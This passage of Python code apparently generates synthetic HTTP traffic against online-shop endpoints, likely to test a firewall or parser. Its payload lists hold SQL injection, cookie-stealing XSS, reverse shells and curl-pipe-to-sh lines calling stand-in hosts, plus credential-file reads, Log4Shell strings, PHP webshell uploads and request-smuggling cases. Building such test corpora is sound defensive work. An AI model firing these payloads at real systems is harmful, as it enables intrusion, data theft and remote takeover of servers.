              "data": {"object": {"id": "pi_" + self.alnum(24), "amount": self.r.randint(100, 99999), "currency": "eur", "metadata": {"order_id": str(self.r.randint(1000, 9999)), "customer_note": self.pick(COMMENTS)},
                                  "billing_details": {"name": f"{self.pick(FIRST)} {self.pick(LAST)}", "address": {"line1": self.pick(STREETS), "city": self.pick(CITIES)[0]}}}}}
        return self.request("POST", self.pick(["/?wc-api=wc_stripe", "/stripe/webhook", "/hooks/stripe"]), platform="woo", body=json.dumps(ev).encode(), ctype="application/json; charset=utf-8",
                            headers=[("Stripe-Signature", f"t={self.ts()},v1={self.hexs(64)}")], cookie=False)

    def b_newsletter(self):
        body = self.form([("email", self.email()), ("form_key", self.alnum(16)), ("consent", "1")])
        return self.request("POST", self.pick(["/newsletter/subscriber/new/", "/?na=s", "/module/ps_emailsubscription/subscription"]), platform="magento", body=body, ctype="application/x-www-form-urlencoded")

    def b_preflight(self):
        return self.request("OPTIONS", "/store/carts/cart_" + self.alnum(26).upper(), platform="headless", cookie=False,
                            headers=[("Access-Control-Request-Method", self.pick(["POST", "DELETE"])), ("Access-Control-Request-Headers", "content-type,x-publishable-api-key")])

    def b_account(self):
        p = self.pick(["woo", "magento"])
        if p == "woo":
            body = self.form([("account_first_name", self.pick(FIRST)), ("account_last_name", self.pick(LAST)), ("account_display_name", self.pick(FIRST)), ("account_email", self.email()),
                              ("password_current", ""), ("password_1", ""), ("password_2", ""), ("save-account-details-nonce", self.hexs(10)), ("_wp_http_referer", "/my-account/edit-account/"), ("action", "save_account_details")])
            return self.request("POST", "/my-account/edit-account/", platform=p, body=body, ctype="application/x-www-form-urlencoded")
        return self.request("DELETE", f"/rest/V1/carts/mine/items/{self.r.randint(1, 999)}", platform=p, ajax=True, headers=[("Authorization", "Bearer " + self.alnum(32))])

    # ------------------------------------------------------------ attacks
    PAYLOADS = {
        "sqli": [
            "' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1; DROP TABLE wp_users", "admin'--",
            "1' AND SLEEP(5)#", "1) or benchmark(10000000,MD5(1))#", "' or 1=1 limit 1 -- -+", "-1' union all select 1,@@version,3-- -",
            "1 AND extractvalue(1,concat(0x7e,version()))", "'; exec master..xp_cmdshell 'dir'--", "1' waitfor delay '0:0:5'--",
            "1 ORDER BY 3--", "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ",
            "1'/**/UnIoN/**/SeLeCt/**/null,table_name/**/FrOm/**/information_schema.tables#", "\" or \"\"=\"", "1 or 1=1",
            "' HAVING 1=1--", "1;SELECT pg_sleep(5)", "') or ('a'='a", "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- ",
        ],
        "xss": [
            "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
            "\"><iframe src=javascript:alert(1)>", "<body onload=alert('xss')>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "'-alert(1)-'",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<details open ontoggle=confirm(1)>", "<ScRiPt>prompt(1)</sCrIpT>",
            "\"><svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<img src=\"x\" onerror=\"fetch('//evil.example/?c='+document.cookie)\">",
            "<style>@import 'http://evil.example/x.css';</style>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<div style=\"background:url(javascript:alert(1))\">",
        ],
        "rce": [
            "; cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "&& wget http://evil.example/x.sh -O /tmp/x", "; nc -e /bin/sh 203.0.113.5 4444",
            "powershell -nop -w hidden -enc SQBFAFgA", "cmd.exe /c dir c:\\", ";${IFS}cat${IFS}/etc/shadow", "; curl http://evil.example/x|sh",
            "| ping -c 3 127.0.0.1", "; bash -i >& /dev/tcp/203.0.113.5/8080 0>&1", "$(echo${IFS}aWQ=|base64${IFS}-d|sh)", "|| python -c 'import os;os.system(\"id\")'",
        ],
        "lfi": [
            "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "/proc/self/environ", "..\\..\\..\\windows\\win.ini",
            "php://filter/convert.base64-encode/resource=index.php", "/var/log/apache2/access.log", "../../.env", "../.git/config", "/etc/shadow%00",
            "file:///etc/passwd", "..%c0%af..%c0%afetc/passwd", "../../../../../../boot.ini", "~/.ssh/id_rsa",
        ],
        "rfi": [
            "http://evil.example/shell.txt?", "https://198.51.100.7/x.php", "ftp://evil.example/x.txt", "http://evil.example/shell.txt%00",
            "http://203.0.113.9/c99.php?", "//evil.example/inc.php", "https://pastebin.com/raw/abcd1234?",
        ],
        "php": [
            "<?php system($_GET['c']); ?>", "phpinfo();", "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));", "O:8:\"stdClass\":1:{s:1:\"a\";s:2:\"id\";}",
            "file_get_contents('/etc/passwd')", "$_SERVER['HTTP_HOST']", "php://input", "assert($_POST['x'])", "<?= `id` ?>",
            "a:2:{i:0;O:10:\"Monolog\\Handler\":0:{}}", "expect://id", "call_user_func('system','id')", "preg_replace('/.*/e','system(\"id\")','')",
        ],
        "java": [
            "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/x}", "java.lang.Runtime.getRuntime().exec(\"id\")",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "${T(java.lang.Runtime).getRuntime().exec('id')}", "java.lang.ProcessBuilder", "<java.beans.XMLDecoder>",
        ],
        "ssti": [
            "{{7*7}}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${7*7}", "<%= 7*7 %>", "{{constructor.constructor('return process')()}}",
            "#{7*7}", "{% import os %}{{os.system('id')}}", "__proto__[isAdmin]=true",
        ],
        "fixation": [
            "PHPSESSID=3b5c2f1e0d9a8b7c6d5e4f3a2b1c0d9e", "<meta http-equiv=\"Set-Cookie\" content=\"sessionid=abc\">", "document.cookie=\"sid=1\"", "jsessionid=ABC123XYZ",
        ],
        "generic": [
            "%0d%0aSet-Cookie:%20admin=1", "\r\nLocation: http://evil.example", "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_FLUSHALL",
            "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "process.mainModule.require('child_process').execSync('id')", "{\"$where\": \"sleep(5000)\"}", "[$ne]=1",
        ],
    }
    SCANNER_UAS = [
        "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) nuclei",
        "gobuster/3.6", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "Mozilla/5.0 (compatible; Arachni/v1.5.1)", "ZmEu", "w3af.org",
        "Mozilla/4.0 (compatible; MSIE 6.0; Acunetix Web Vulnerability Scanner)", "python-requests/2.31.0", "curl/8.5.0", "Go-http-client/1.1", "",
    ]

    def evade(self, p: str) -> str:
        x = self.r.random()
        if x < 0.12:
            return p.upper()
        if x < 0.2:
            return p.replace(" ", "\t")
        if x < 0.26:
            return p.replace(" ", "/**/")
        if x < 0.3:
            return p.replace("<", "%3C").replace(">", "%3E")
        if x < 0.33:
            return p + "\x00"
        return p

    def attack(self):
        cat = self.pick(list(self.PAYLOADS) + ["scanner"])
        if cat == "scanner":
            ua = self.pick(self.SCANNER_UAS)
            path = self.pick(["/", "/wp-login.php", "/.env", "/admin/", "/wp-content/plugins/revslider/temp/", "/phpmyadmin/index.php", "/.git/HEAD", "/backup.sql", "/xmlrpc.php", "/server-status"])
            raw = self.request("GET", path, cookie=False)
            raw = _replace_header(raw, b"User-Agent", ua.encode())
            return "scanner", raw
        payload = self.evade(self.pick(self.PAYLOADS[cat]))
        where = self.pick(["query", "query_raw", "form", "json", "cookie", "ua", "referer", "header", "path", "argname", "multipart", "xml", "json_key"])
        return f"{cat}-{where}", self.place(payload, where)

    def place(self, payload: str, where: str) -> bytes:
        pname = self.pick(["q", "s", "search", "id", "product_id", "comment", "billing_address_1", "redirect_to", "file", "page", "lang", "sort"])
        if where == "query":
            return self.request("GET", f"/{self.pick(['', 'index.php', 'catalogsearch/result/', 'shop/'])}?{self.query([(pname, payload)] + self.utm())}", platform=self.pick(["woo", "magento"]))
        if where == "query_raw":
            enc = payload.replace("%", "%25") if self.r.random() < 0.5 else payload
            enc = enc.replace(" ", "+").replace("#", "%23").replace("&", "%26").replace("\t", "%09").replace("\x00", "%00").replace("\r", "%0d").replace("\n", "%0a")
            enc = "".join(c if 0x20 < ord(c) < 0x7F else quote(c) for c in enc)
            return self.request("GET", f"/index.php?{pname}={enc}", platform="presta")
        if where == "form":
            body = self.form([(pname, payload), ("form_key", self.alnum(16)), ("qty", 1)])
            return self.request("POST", self.pick(["/wp-comments-post.php", "/checkout/cart/add/", "/?wc-ajax=checkout"]), platform="woo", body=body, ctype="application/x-www-form-urlencoded")
        if where == "json":
            body = json.dumps({"items": [{"sku": "MS-1", "quantity": 1, "note": payload}], "coupon": self.pick(["", payload])}).encode()
            return self.request("POST", "/store-api/checkout/cart/line-item", platform="shopware", body=body, ctype="application/json", ajax=True)
        if where == "json_key":
            body = json.dumps({payload: 1, "quantity": 2}).encode()
            return self.request("POST", "/wp-json/wc/store/v1/cart/add-item", platform="woo", body=body, ctype="application/json", ajax=True)
        if where == "cookie":
            raw = self.request("GET", "/cart/", platform="woo", cookie=False)
            return _add_header(raw, b"Cookie", f"woocommerce_items_in_cart=1; {self.pick(['wp_lang', 'PHPSESSID', 'store', 'currency'])}={quote(payload, safe='=/:;() ') if self.r.random() < 0.5 else payload.replace(';', '%3B')}".encode())
        if where == "ua":
            raw = self.request("GET", "/", platform="magento")
            return _replace_header(raw, b"User-Agent", payload.encode())
        if where == "referer":
            raw = self.request("GET", "/checkout/", platform="woo")
            return _add_header(raw, b"Referer", ("https://shop.example.com/?q=" + payload).encode())
        if where == "header":
            raw = self.request("GET", "/api/orders", platform="headless", ajax=True)
            return _add_header(raw, self.pick([b"X-Forwarded-For", b"X-Api-Key", b"X-Custom-Header", b"Accept-Language"]), payload.encode())
        if where == "path":
            return self.request("GET", "/product/" + quote(payload, safe="/") + "/", platform="woo")
        if where == "argname":
            return self.request("GET", "/shop/?" + quote_plus(payload) + "=1&orderby=price", platform="woo")
        if where == "multipart":
            body, ct = self.multipart([("your-name", self.pick(FIRST)), ("your-message", payload)])
            return self.request("POST", "/wp-json/contact-form-7/v1/contact-forms/12/feedback", platform="woo", body=body, ctype=ct, ajax=True)
        body = f'<?xml version="1.0"?><order><id>12</id><note>{payload.replace("&", "&amp;").replace("<", "&lt;")}</note></order>'.encode()
        return self.request("POST", "/api/v2_soap", platform="magento", body=body, ctype="text/xml", cookie=False)

    # ------------------------------------------------------------ parsing and decoding edge cases
    def edge(self):
        name = self.pick(sorted(n[2:] for n in dir(self) if n.startswith("e_")))
        return name, getattr(self, "e_" + name)()

    def payload(self, cats=None) -> str:
        cat = self.pick(cats or sorted(self.PAYLOADS))
        return self.pick(self.PAYLOADS[cat])

    def post(self, path, body: bytes, ctype: str, **kw) -> bytes:
        return self.request("POST", path, body=body, ctype=ctype, **kw)

    def e_json_escapes(self):
        p = self.payload(["sqli", "xss", "rce", "php"])
        esc = "".join(f"\\u{ord(c):04x}" if c in "'<>\"/;" or self.r.random() < 0.2 else c for c in p)
        body = '{"search": "' + esc + '", "page": 1, "filters": {"color": ["red", "blue"], "price": {"min": 1e2, "max": -0.5}}, "flag": true, "none": null}'
        return self.post("/wp-json/wc/store/v1/products", body.encode(), "application/json", ajax=True)

    def e_json_nesting(self):
        depth = self.r.randint(3, 40)
        v: object = self.pick([self.payload(), "ok", 42, None, True])
        for i in range(depth):
            v = self.pick([[v], {"k" + str(i): v}, {"": v}, {"a.b": v}, [1, v, "x"]])
        return self.post("/store-api/product", json.dumps(v).encode(), "application/json", ajax=True)

    def e_json_top_level(self):
        body = self.pick([
            json.dumps([{"id": self.r.randint(1, 9), "qty": 1}, {"id": 2, "note": self.payload()}]),
            json.dumps(self.payload()), "12345", "[]", "{}", '{"a":1,"a":2}', "[[[[]]]]",
            '{"q": "\\u0000' + self.pick(["admin", "1=1"]) + '"}', '\ufeff{"bom": true}',
        ])
        return self.post("/api/cart/items", body.encode(), self.pick(["application/json", "Application/JSON; charset=UTF-8", "application/vnd.api+json"]), ajax=True)

    def e_form_odd_args(self):
        p = quote_plus(self.payload())
        body = self.pick([
            f"a=1&a=2&a[]=3&a[b]={p}", f"={p}&k", f"&&&q={p}&&", "a=%&b=%2&c=%G1&d=%%41", f"x[y][z][]={p}",
            f"a+b={p}&c%20d=1", f"q={p};r=2", f"utf8=%E2%9C%93&q=caf%C3%A9+{p}", f"q=%25%32%37{p}", f"%71={p}",
        ])
        if self.r.random() < 0.5:
            return self.post("/?wc-ajax=checkout", body.encode(), "application/x-www-form-urlencoded")
        return self.request("GET", "/search?" + body)

    def e_query_encodings(self):
        p = self.payload(["sqli", "xss", "lfi", "rce"])
        enc = self.pick([
            lambda s: "".join(f"%{ord(c):02x}" for c in s),
            lambda s: quote(quote(s, safe=""), safe=""),
            lambda s: "".join(f"%u{ord(c):04x}" if not c.isalnum() else c for c in s),
            lambda s: "".join(chr(0xFF00 + ord(c) - 0x20) if c in "<>'\"()" else c for c in s),
            lambda s: s.replace("'", "%c0%a7").replace("/", "%c0%af").replace(" ", "%20"),
            lambda s: quote(s.upper(), safe=""),
            lambda s: quote(s, safe="").replace("%20", "%09"),
        ])
        v = enc(p)
        v = "".join(c if ord(c) < 0x80 else quote(c) for c in v)
        return self.request("GET", f"/catalogsearch/result/?q={v}&cat=3", platform="magento")

    def e_cookie_syntax(self):
        p = self.payload(["sqli", "xss", "php", "java"])
        ck = self.pick([
            f'pref="{p}"', f"novalue; a=1; {quote(p)}", f"dup=1; dup={quote(p)}", f" spaced = {quote(p)} ",
            f"b64={base64.b64encode(p.encode()).decode()}", f"$Version=1; sess={quote(p)}; $Path=/",
            f"cart=%7B%22items%22%3A%5B%22{quote(p)}%22%5D%7D", "a=1;b=2,c=3", f"x={p.replace(';', '')}",
        ])
        raw = self.request("GET", "/my-account/", cookie=False)
        raw = _add_header(raw, b"Cookie", ck.encode())
        if self.r.random() < 0.3:
            raw = raw.replace(b"\r\n\r\n", b"\r\nCookie: second=" + quote(self.payload()).encode() + b"\r\n\r\n", 1)
        return raw

    def e_headers_odd(self):
        raw = self.request("GET", "/checkout/")
        extra = self.pick([
            b"X-Forwarded-For: 10.0.0.1\r\nX-Forwarded-For: " + self.payload().encode(),
            b"X-Empty:", b"x-lower-case: " + self.payload().encode(), b"X-Long: " + b"A" * self.r.randint(500, 3000),
            b"X-HTTP-Method-Override: PUT", b"Content-Type: application/json",
            b"X-Original-URL: /admin/../" + quote(self.payload()).encode(), b"Forwarded: for=\"[2001:db8::1]\";proto=https",
            b"Referer: " + self.payload(["xss", "sqli"]).encode(), b"Via: 1.1 " + self.payload(["rce"]).encode(),
        ])
        head, sep, body = raw.partition(b"\r\n\r\n")
        return head + b"\r\n" + extra + sep + body

    def e_multipart_corners(self):
        b = "----x" + self.alnum(10)
        p = self.payload()
        parts = self.pick([
            f'--{b}\r\nContent-Disposition: form-data; name="a"\r\n\r\n{p}\r\n--{b}--\r\n',
            f'--{b}\r\nContent-Disposition: form-data; name="f"; filename="C:\\fakepath\\shell.php"\r\nContent-Type: application/octet-stream\r\n\r\n<?php {p} ?>\r\n--{b}--\r\n',
            f"--{b}\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''r%C3%A9sum%C3%A9.pdf\r\n\r\n%PDF-1.4\r\n--{b}--\r\n",
            f'preamble text\r\n--{b}\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--{b}--\r\nepilogue {p}',
            f'--{b}\nContent-Disposition: form-data; name="lf"\n\n{p}\n--{b}--\n',
            f'--{b}\r\nContent-Disposition: form-data; name="a"\r\n\r\nno closing boundary {p}\r\n',
            f'--{b}\r\nContent-Disposition: form-data;\r\n name="folded"\r\n\r\n{p}\r\n--{b}--\r\n',
            f'--{b}\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n{base64.b64encode(p.encode()).decode()}\r\n--{b}--\r\n',
            f'--{b}\r\nContent-Disposition: form-data; name="x"; filename=""\r\n\r\n\r\n--{b}\r\nContent-Disposition: form-data; name="x"; filename="a.txt"\r\n\r\n{p}\r\n--{b}--\r\n',
            f'--{b}\r\nContent-Disposition: form-data; name="{p[:30]}"\r\n\r\nv\r\n--{b}--\r\n',
            f'--{b}\r\nContent-Disposition: form-data; name=a\r\n\r\nunquoted {p}\r\n--{b}--\r\n',
        ])
        ctype = self.pick([f"multipart/form-data; boundary={b}", f'multipart/form-data; boundary="{b}"', f"multipart/form-data; charset=utf-8; boundary={b}", f"multipart/form-data; boundary= {b}"])
        return self.post("/wp-admin/admin-ajax.php", parts.encode(), ctype)

    def e_xml_corners(self):
        p = self.payload()
        esc = p.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
        body = self.pick([
            f'<?xml version="1.0"?><order id="{esc}"><item sku="A1" note="{esc}"/></order>',
            f"<?xml version=\"1.0\"?><q><![CDATA[{p}]]></q>",
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
            f"<?xml version=\"1.0\"?><r><!-- {esc} --><a>ok</a></r>",
            f'<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:Get xmlns:m="urn:x"><m:q>{esc}</m:q></m:Get></soap:Body></soap:Envelope>',
            f"<r><a>{esc}</a><a>two</a><b><c><d>{esc}</d></c></b></r>",
            f'<?xml version="1.0"?><?pi {esc}?><r/>',
        ])
        return self.post("/api/v2_soap", body.encode(), self.pick(["text/xml", "application/xml; charset=utf-8", "application/soap+xml", "application/atom+xml"]), cookie=False)

    def e_path_tricks(self):
        p = quote(self.payload(["lfi", "sqli", "xss"]), safe="")
        path = self.pick([
            f"/product;jsessionid={self.alnum(16)}/{p}", f"/a/../b/./c//d/{p}", f"/shop%2fadmin%2f{p}", f"/index.php/{p}/x.html",
            f"/static/..%252f..%252f{p}", f"/{p}.php.", f"/WP-ADMIN/{p}", "/wp-content/uploads/x.php%00.jpg", f"/%2e%2e/%2e%2e/{p}",
            f"/shop/item%3Fid=1/{p}", f"/cart%3F/{p}?ok=1",
        ])
        return self.request("GET", path)

    def e_methods(self):
        m = self.pick(["get", "FOO", "PATCH", "DELETE", "PUT", "COPY", "MOVE", "SEARCH", "CHECKOUT"])
        body = json.dumps({"q": self.payload()}).encode() if m in ("PATCH", "PUT", "SEARCH") else b""
        return self.request(m, "/rest/V1/carts/mine?_method=" + self.pick(["DELETE", "PUT"]), body=body, ctype="application/json" if body else None, ajax=True)

    def e_text_bodies(self):
        p = self.payload()
        ctype = self.pick(["text/plain", "application/octet-stream", "application/x-www-form-urlencoded; charset=ibm037", "application/csp-report", "application/graphql", ""])
        raw = self.post("/import", p.encode(), ctype or None)
        return raw

    def e_chunked_json(self):
        body = json.dumps({"coupon": self.payload(["sqli", "xss"]), "qty": 2}).encode()
        mid = len(body) // 2
        chunks = b"%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n" % (mid, body[:mid], len(body) - mid, body[mid:])
        raw = self.request("POST", "/wp-json/wc/store/v1/cart/apply-coupon", ctype="application/json", ajax=True)
        head, sep, _ = raw.partition(b"\r\n\r\n")
        head = b"\r\n".join(l for l in head.split(b"\r\n") if not l.lower().startswith(b"content-length:"))
        return head + b"\r\nTransfer-Encoding: chunked" + sep + chunks

    def e_evasions(self):
        p = self.pick([
            "c^a^t /e''tc/pa\"\"sswd", "w'h'o'am'i", "/???/??t /???/p??s??", "${PATH:0:1}etc${PATH:0:1}passwd", "$@id", "cat$IFS/etc/passwd",
            "/*!50000UNION*/ /*!SELECT*/ 1,2", "0x61646d696e", "CHAR(97)+CHAR(100)", "1 `or` 1", "1'||'1", "1 /*foo*/ or /*bar*/ 1=1",
            "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;", "&lt;img src=x onerror=alert(1)&gt;", "<scr\x00ipt>alert(1)</script>",
            "jav&#x61;script:alert(1)", "\\u003cscript\\u003e", "%253Cscript%253E", "<svg><script>alert&#40;1&#41;</script>",
            "ph\\u0070info()", "sys\\tem('id')", "s/e/x/", "ＳＥＬＥＣＴ * ＦＲＯＭ users", "ѕеlесt * from users",
        ])
        where = self.pick(["query", "form", "json", "cookie", "ua"])
        return self.place(p, where)

    # ------------------------------------------------------------ protocol oddities
    def oddity(self):
        host = self.pick(HOSTS)
        ua = self.pick(USER_AGENTS)
        cases = {
            "no-host": f"GET / HTTP/1.1\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "no-accept": f"GET /shop/ HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\n\r\n".encode(),
            "no-ua": f"GET /shop/ HTTP/1.1\r\nHost: {host}\r\nAccept: */*\r\n\r\n".encode(),
            "http10": f"GET /index.php HTTP/1.0\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "get-with-body": f"GET /?s=shoes HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nContent-Length: 7\r\n\r\nfoo=bar".encode(),
            "range-many": f"GET /media/video.mp4 HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nRange: bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21,22-23\r\n\r\n".encode(),
            "range-zero": f"GET /media/x.pdf HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nRange: bytes=0-\r\n\r\n".encode(),
            "te-and-cl": f"POST /checkout/ HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 12\r\nTransfer-Encoding: chunked\r\n\r\n5\r\na=b&c\r\n3\r\n=de\r\n0\r\n\r\n".encode(),
            "trace": f"TRACE / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "propfind": f"PROPFIND /wp-content/ HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nDepth: 1\r\n\r\n".encode(),
            "absolute-uri": f"GET http://{host}/cart/ HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "null-in-uri": f"GET /index.php?file=report.pdf%00.php HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "bad-utf8": f"GET /search?q=%C0%AFetc%FF%FE HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "iis-unicode": f"GET /search?q=%u0027%u0020or%u00201=1 HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "bad-percent": f"GET /search?q=100%+cotton&x=%zz HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "backup-ext": f"GET /wp-config.php.bak HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "sql-dump": f"GET /backup/db.sql HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "odd-ctype": f"POST /api/import HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nContent-Type: application/x-evil\r\nContent-Length: 3\r\n\r\nabc".encode(),
            "utf7-charset": f"POST /?wc-ajax=checkout HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded; charset=utf-7\r\nContent-Length: 7\r\n\r\na=+ADw-".encode(),
            "httpoxy": f"GET /cart/ HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nProxy: http://evil.example:8080\r\n\r\n".encode(),
            "header-underscore": f"GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nX_Forwarded_For: 127.0.0.1\r\n\r\n".encode(),
            "host-ip": f"GET / HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "long-arg": f"GET /search?q={'a' * 500} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "many-args": ("GET /filter?" + "&".join(f"f{i}={i}" for i in range(300)) + f" HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n").encode(),
            "crlf-in-arg": f"GET /redirect?to=%0d%0aSet-Cookie:%20x=1 HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "smuggle-body": f"POST / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 44\r\n\r\nx=1GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n".encode(),
            "bad-json": f"POST /wp-json/wc/store/v1/cart/add-item HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nContent-Type: application/json\r\nContent-Length: 14\r\n\r\n{{\"id\": 12, x}}".encode(),
            "bad-xml": f"POST /api/v2_soap HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nContent-Type: text/xml\r\nContent-Length: 12\r\n\r\n<order><id>1".encode(),
            "multipart-no-boundary": f"POST /upload HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nContent-Type: multipart/form-data\r\nContent-Length: 10\r\n\r\nhello=1234".encode(),
            "multipart-php-upload": b"",
            "high-bytes-header": f"GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nX-Name: ".encode() + "Müller".encode("latin-1") + b"\r\n\r\n",
            "expect": f"POST /?wc-ajax=checkout HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nExpect: 100-continue\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\n\r\na=b".encode(),
            "version-2": f"GET / HTTP/2.0\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "double-cl": f"POST / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\nContent-Length: 3\r\n\r\na=b".encode(),
            "backslash-path": f"GET /wp-content\\..\\wp-config.php HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "fragment": f"GET /cart/#section HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n".encode(),
            "accept-encoding-junk": f"GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nAccept-Encoding: {'gzip,' * 60}identity\r\n\r\n".encode(),
        }
        name = self.pick(sorted(cases))
        raw = cases[name]
        if name == "multipart-php-upload":
            body, ct = self.multipart([("title", "avatar")], [("file", self.pick(["shell.php", "avatar.phtml", "x.php.jpg", ".htaccess"]), "image/jpeg", b"<?php echo shell_exec($_GET['c']); ?>")])
            raw = self.request("POST", "/wp-admin/async-upload.php", platform="woo", body=body, ctype=ct)
        return name, raw


def _replace_header(raw: bytes, name: bytes, value: bytes) -> bytes:
    head, sep, body = raw.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    out = [l for l in lines if not l.lower().startswith(name.lower() + b":")]
    if value:
        out.insert(2, name + b": " + value)
    return b"\r\n".join(out) + sep + body


def _add_header(raw: bytes, name: bytes, value: bytes) -> bytes:
    head, sep, body = raw.partition(b"\r\n\r\n")
    lines = [l for l in head.split(b"\r\n") if not l.lower().startswith(name.lower() + b":")]
    lines.append(name + b": " + value)
    return b"\r\n".join(lines) + sep + body


def generate(seed: int = DEFAULT_SEED, size: int = DEFAULT_SIZE) -> list[tuple[str, bytes]]:
    """`size` requests as (name, raw); the same arguments give the same bytes."""
    g = Gen(seed)
    out = []
    for i in range(size):
        x = g.r.random()
        if x < ODDITY_SHARE:
            kind, raw = g.oddity()
            name = f"{i:05d}-oddity-{kind}"
        elif x < ODDITY_SHARE + ATTACK_SHARE:
            kind, raw = g.attack()
            name = f"{i:05d}-attack-{kind}"
        elif x < ODDITY_SHARE + ATTACK_SHARE + EDGE_SHARE:
            kind, raw = g.edge()
            name = f"{i:05d}-edge-{kind}"
        else:
            kind, raw = g.benign()
            name = f"{i:05d}-store-{kind}"
        out.append((name, raw))
    return out


def main(argv) -> int:
